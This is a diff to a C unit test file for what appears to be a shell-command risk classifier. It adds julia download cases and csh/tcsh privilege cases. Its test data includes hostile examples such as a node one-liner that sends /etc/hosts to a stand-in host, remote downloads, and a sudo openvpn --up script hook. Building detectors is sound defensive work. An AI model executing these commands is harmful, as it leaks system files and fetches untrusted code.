@@ -126,6 +126,8 @@ test_programs(void **state)
 		{ "node -e 'require(\"fs\").createReadStream(\"/etc/hosts\").pipe(require(\"http\").request(\"http://x.example/\"))'",
 		    "high", "code-upload" },
 		{ "node -e 'require(\"https\").get(\"https://x.example/\")'", "medium", "code-network" },
+		{ "julia -e 'download(\"http://x.example/f\", \"/path/to/output-file\")'", "high", "write:outside" },
+		{ "julia -e 'download(\"https://x.example/data.csv\", \"data.csv\")'", "medium", "code-network" },
 		{ "node -e 'console.log(require(\"fs\").readFileSync(\"package.json\",\"utf8\"))'", "low", NULL },
 	};
 
@@ -204,6 +206,10 @@ test_priv_keep(void **state)
 		{ "sudo openvpn --config /path/to/input-file", "critical", "priv-high" },
 		{ "sudo openvpn --dev null --up '/tmp/x'", "critical", "priv-high" },
 		{ "openvpn --config client.ovpn", "medium", NULL },
+		{ "csh -b", "critical", "shell-priv" },
+		{ "tcsh -bc 'echo x >/path/to/output-file'", "critical", "shell-priv" },
+		{ "csh -c 'ls'", "low", NULL },
+		{ "bash -b", "high", NULL },
 		{ "sudo dmesg", "high", "priv-routine" },
 		{ "sudo logrotate /etc/logrotate.conf", "high", "priv-routine" },
 		{ "sudo openvpn --config ./client.ovpn", "high", "priv-routine" },
